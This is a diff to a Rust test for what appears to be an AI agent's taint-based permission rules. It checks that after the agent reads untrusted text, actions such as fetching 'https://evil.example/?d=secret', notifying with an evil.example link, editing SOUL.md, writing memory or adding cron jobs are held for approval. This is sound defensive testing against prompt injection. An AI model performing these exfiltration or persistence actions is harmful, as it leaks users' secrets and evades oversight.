@@ -239,7 +239,7 @@ fn after_untrusted_text_what_lasts_runs_or_leaves_is_asked_about() {
     let rules = Rules::default();
     let fetch = json!({"url": "https://evil.example/?d=secret"});
     for source in
-        [Source::Web, Source::Mail, Source::OutsideFile, Source::ThirdParty, Source::MarkedMemory]
+        [Source::Web, Source::Mail, Source::OutsideFile, Source::ThirdParty, Source::OtherPeople]
     {
         check(
             &rules,
@@ -271,18 +271,30 @@ fn after_untrusted_text_what_lasts_runs_or_leaves_is_asked_about() {
             ],
         );
     }
-    check(
-        &rules,
-        &[Source::Workspace],
-        &[
-            ("write_file", json!({"path": "SOUL.md"}), Ask, "taint:instructions"),
-            ("memory_append", json!({"text": "x"}), Allow, "profile:assistant"),
-            ("exec", json!({"command": "ls"}), Allow, "command"),
-            ("web_fetch", fetch, Ask, "taint:way-out"),
-            ("notify", json!({"body": "ready"}), Allow, "profile:assistant"),
-            ("notify", json!({"body": "see https://evil.example"}), Ask, "taint:notify"),
-        ],
-    );
+    for (source, memory) in [
+        (Source::Workspace, (Ask, "taint:memory")),
+        (Source::Installed, (Ask, "taint:memory")),
+        (Source::CommandOutput, (Ask, "taint:memory")),
+        (Source::Memory, (Allow, "profile:assistant")),
+    ] {
+        let once = json!({"action": "add", "schedule": "at 2026-12-01 09:00"});
+        let reminder = if source == Source::Memory { Allow } else { Ask };
+        let rule = if source == Source::Memory { "profile:assistant" } else { "taint:schedule" };
+        check(
+            &rules,
+            &[source],
+            &[
+                ("write_file", json!({"path": "SOUL.md"}), Ask, "taint:instructions"),
+                ("memory_append", json!({"text": "x"}), memory.0, memory.1),
+                ("exec", json!({"command": "ls"}), Allow, "command"),
+                ("web_fetch", fetch.clone(), Ask, "taint:way-out"),
+                ("notify", json!({"body": "ready"}), Allow, "profile:assistant"),
+                ("notify", json!({"body": "see https://evil.example"}), Ask, "taint:notify"),
+                ("cron", json!({"action": "add", "schedule": "every 1m"}), Ask, "taint:schedule"),
+                ("cron", once, reminder, rule),
+            ],
+        );
+    }
 }
 
 #[test]
